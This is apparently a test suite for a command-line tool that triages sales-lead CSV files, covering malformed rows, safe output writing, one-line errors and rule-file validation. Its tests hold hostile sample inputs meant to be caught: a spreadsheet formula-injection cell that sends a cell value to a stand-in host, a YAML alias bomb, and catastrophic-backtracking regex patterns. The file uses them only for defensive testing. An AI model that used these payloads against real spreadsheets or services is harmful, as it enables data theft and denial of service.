import { execFile } from "node:child_process";
import { linkSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { userFacingError } from "../../src/domain/errors.js";
import { parseRuleSet, RuleSetError } from "../../src/domain/personas/load.js";

/** The CLI as users run it, built from these sources by the suites' global set-up. */
const CLI = ["dist/cli.js"];
const tmp = () => mkdtempSync(join(tmpdir(), "lead-triage-rel-"));

function cli(args: string[], env: Record<string, string> = {}, shell?: string) {
  return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    const cmd = shell ? "/bin/sh" : process.execPath;
    const argv = shell ? ["-c", shell] : [...CLI, ...args];
    const child = execFile(
      cmd,
      argv,
      { env: { ...process.env, DATABASE_URL: "", ...env }, maxBuffer: 64 << 20 },
      (err, stdout, stderr) =>
        resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
    child.stdin?.end();
  });
}

const HEADER = "First Name,Job Title,Company Name,# Employees,Email";
const row = (i: number) => `Lead${i},VP of Sales,Company ${i},${100 + i},lead${i}@company${i}.com`;

describe("CSV files with bad lines", () => {
  it("skips an unclosed quote once, with its line, and reads every row after it", async () => {
    const dir = tmp();
    const rows = Array.from({ length: 2_000 }, (_, i) => row(i));
    rows[10] = '"Acme Unclosed,VP of Sales,Acme,50,x@acme.com';
    rows[500] = 'Lead500,VP of Sales,Acme "The Best" Inc,120,lead500@acme.com';
    rows[900] = 'Lead900,"Director,\nSales",Initech,300,lead900@initech.com';
    writeFileSync(join(dir, "leads.csv"), [HEADER, ...rows].join("\n"));
    const r = await cli([
      "check",
      "--no-save",
      "--file",
      join(dir, "leads.csv"),
      "--out",
      join(dir, "out.csv"),
    ]);
    expect(r.stderr).toContain("skipped row at line 12: unclosed quote");
    expect(r.stderr.match(/skipped row/g)).toHaveLength(1);
    expect(r.stderr).toContain("triaged 1999 lead(s)");
    expect(r.stderr).toContain("skipped 1 malformed row(s)");
    expect(r.code).toBe(3);
    const out = parse(readFileSync(join(dir, "out.csv"), "utf8"), { columns: true }) as Record<
      string,
      string
    >[];
    expect(out).toHaveLength(1_999);
    expect(out.find((o) => o["First Name"] === "Lead500")?.["Company Name"]).toBe('Acme "The Best" Inc');
    expect(out.find((o) => o["First Name"] === "Lead900")?.["Job Title"]).toBe("Director,\nSales");
  });

  it("refuses a file without a header row instead of taking the first lead for one", async () => {
    const dir = tmp();
    writeFileSync(join(dir, "noheader.csv"), [row(1), row(2)].join("\n"));
    const r = await cli(["check", "--no-save", "--file", join(dir, "noheader.csv")]);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toMatch(/the first line is a lead, not a header row/);
  });

  it("keeps every good row of an import when one row is refused by the database", async () => {
    const dir = tmp();
    const rows = Array.from({ length: 30 }, (_, i) => row(i));
    rows[7] = "Nul\u0000Name,VP of Sales,Nul Co,100,nul@nul.com";
    writeFileSync(join(dir, "leads.csv"), [HEADER, ...rows].join("\n"));
    const env = { DATA_DIR: join(dir, "data") };
    const r = await cli(["check", "--file", join(dir, "leads.csv"), "--out", join(dir, "out.csv")], env);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("triaged 30 lead(s)");
    const stats = await cli(["stats", "--json"], env);
    expect(JSON.parse(stats.stdout).total).toBe(30);
  });
});

describe("output files are written whole or not at all", () => {
  it("refuses --out that is the input, by path, through a link or a hard link, and leaves the input as it was", async () => {
    const dir = tmp();
    const input = join(dir, "leads.csv");
    const content = `${HEADER}\n${row(1)}\n${row(2)}\n`;
    writeFileSync(input, content);
    symlinkSync(input, join(dir, "link.csv"));
    linkSync(input, join(dir, "hard.csv"));
    for (const out of [input, join(dir, ".", "leads.csv"), join(dir, "link.csv"), join(dir, "hard.csv")]) {
      const r = await cli(["check", "--no-save", "--file", input, "--out", out]);
      expect(r.code).toBe(1);
      expect(r.stderr.trim().split("\n")).toHaveLength(1);
      expect(r.stderr).toContain("is the input file: write the triaged copy elsewhere");
      expect(readFileSync(input, "utf8")).toBe(content);
    }
    expect(readdirSync(dir).sort()).toEqual(["hard.csv", "leads.csv", "link.csv"]);
  });

  it("a failed run leaves an earlier output as it was and no temporary file", async () => {
    const dir = tmp();
    writeFileSync(join(dir, "noheader.csv"), [row(1), row(2)].join("\n"));
    writeFileSync(join(dir, "out.csv"), "an earlier run's output\n");
    const r = await cli([
      "check",
      "--no-save",
      "--file",
      join(dir, "noheader.csv"),
      "--out",
      join(dir, "out.csv"),
    ]);
    expect(r.code).toBe(1);
    expect(readFileSync(join(dir, "out.csv"), "utf8")).toBe("an earlier run's output\n");
    const missing = await cli([
      "check",
      "--no-save",
      "--file",
      join(dir, "none.csv"),
      "--out",
      join(dir, "new.csv"),
    ]);
    expect(missing.code).toBe(1);
    expect(readdirSync(dir).sort()).toEqual(["noheader.csv", "out.csv"]);
  });

  it("writes cells that would start a spreadsheet formula as text, unless told to keep them raw", async () => {
    const dir = tmp();
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 555 0100", "-2+3", "@SUM(A1:A9)"];
    writeFileSync(
      join(dir, "leads.csv"),
      `First Name,Job Title,Company Name,Phone,Notes,Email\n` +
        `Ann,VP of Sales,"${cells[0]?.replace(/"/g, '""')}",${cells[1]},${cells[2]},${cells[3]}\n` +
        `"\tTab",CTO,Initech,100,fine,ok@initech.com\n`,
    );
    const read = (file: string) =>
      parse(readFileSync(join(dir, file), "utf8"), { columns: true }) as Record<string, string>[];
    expect(
      (await cli(["check", "--no-save", "--file", join(dir, "leads.csv"), "--out", join(dir, "safe.csv")]))
        .code,
    ).toBe(0);
    const [first, second] = read("safe.csv");
    expect(first).toMatchObject({
      "Company Name": `'${cells[0]}`,
      Phone: `'${cells[1]}`,
      Notes: `'${cells[2]}`,
      Email: `'${cells[3]}`,
      "First Name": "Ann",
    });
    expect(second).toMatchObject({ "First Name": "'\tTab", Notes: "fine" });
    const raw = await cli([
      "check",
      "--no-save",
      "--no-formula-guard",
      "--file",
      join(dir, "leads.csv"),
      "--out",
      join(dir, "raw.csv"),
    ]);
    expect(raw.code).toBe(0);
    expect(read("raw.csv")[0]).toMatchObject({ "Company Name": cells[0], Phone: cells[1], Email: cells[3] });
  });
});

describe("CLI errors are one line", () => {
  it("for --out to a directory or a missing folder", async () => {
    const dir = tmp();
    writeFileSync(join(dir, "leads.csv"), `${HEADER}\n${row(1)}\n`);
    for (const [out, why] of [
      [dir, "is a directory"],
      [join(dir, "missing", "out.csv"), "its folder does not exist"],
    ] as const) {
      const r = await cli(["check", "--no-save", "--file", join(dir, "leads.csv"), "--out", out]);
      expect(r.code).toBe(1);
      expect(r.stderr.trim().split("\n")).toHaveLength(1);
      expect(r.stderr.trim().startsWith(`lead-triage: --out ${out}: ${why}`)).toBe(true);
    }
  });

  it("exits quietly when the reader closes the pipe", async () => {
    const dir = tmp();
    writeFileSync(
      join(dir, "leads.csv"),
      [HEADER, ...Array.from({ length: 20_000 }, (_, i) => row(i))].join("\n"),
    );
    const r = await cli(
      [],
      {},
      `"${process.execPath}" ${CLI.join(" ")} check --no-save --file "${join(dir, "leads.csv")}" | head -n 2; exit $?`,
    );
    expect(r.code).toBe(0);
    expect(r.stdout.trim().split("\n")).toHaveLength(2);
    expect(r.stderr).not.toMatch(/EPIPE|unexpected/);
  });

  it("turns a multi-line driver or ORM error into its one telling line", () => {
    const prismaLike = Object.assign(
      new Error(
        '\nInvalid `prisma.check.createMany()` invocation:\n\n\nError occurred during query execution:\nConnectorError(invalid byte sequence for encoding "UTF8": 0x00)',
      ),
      { code: "P2010" },
    );
    const { message, exitCode } = userFacingError(prismaLike);
    expect(message).toBe(
      'unexpected error (P2010): ConnectorError(invalid byte sequence for encoding "UTF8": 0x00)',
    );
    expect(message.split("\n")).toHaveLength(1);
    expect(exitCode).toBe(1);
  });
});

describe("rule files", () => {
  it("refuses a YAML alias bomb as invalid YAML", () => {
    const bomb = [
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      ...Array.from({ length: 8 }, (_, i) => {
        const p = String.fromCharCode(97 + i);
        const n = String.fromCharCode(98 + i);
        return `${n}: &${n} [*${p},*${p},*${p},*${p},*${p},*${p},*${p},*${p},*${p}]`;
      }),
    ].join("\n");
    const error = (() => {
      try {
        parseRuleSet(bomb, "bomb.yml");
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(RuleSetError);
    expect((error as RuleSetError).problems[0]).toMatch(/^not valid YAML|alias/i);
    expect((error as RuleSetError).problems[0]).not.toContain("JSON");
  });

  it("checks patterns for catastrophic backtracking quickly, accepting common safe ones", () => {
    const persona = (pattern: string) => `version: 1
personas:
  - id: p
    name: P
    kind: anti
    rules:
      - id: r
        when: { field: text, op: matches, value: ${JSON.stringify(pattern)} }
        weight: 20
        reason: R
`;
    for (const safe of [
      "\\d+ employees",
      "\\s*\\d+\\s*(employees|staff)",
      "\\b(ceo|founder)\\b.*\\bstartup\\b",
    ]) {
      expect(() => parseRuleSet(persona(safe), "ok.yml")).not.toThrow();
    }
    for (const evil of ["(a+)+$", "(x+x+)+y", "(.*a){12}", "a*a*b"]) {
      const started = performance.now();
      expect(() => parseRuleSet(persona(evil), "evil.yml")).toThrow(RuleSetError);
      expect(performance.now() - started).toBeLessThan(1_500);
    }
  });
});
